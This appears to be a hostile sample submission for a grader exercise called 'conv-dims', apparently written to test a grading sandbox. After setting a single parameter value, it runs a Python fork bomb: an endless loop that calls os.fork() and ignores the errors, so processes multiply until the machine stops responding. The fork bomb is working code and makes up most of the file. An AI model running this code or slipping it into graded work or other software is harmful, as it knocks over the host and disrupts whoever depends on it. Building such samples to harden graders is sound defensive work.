# grader: exercise=conv-dims
"""Hostile: a fork bomb. Every process forks for ever, and ignores the errors when it cannot."""

# %%
conv_params = 80

# %%
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
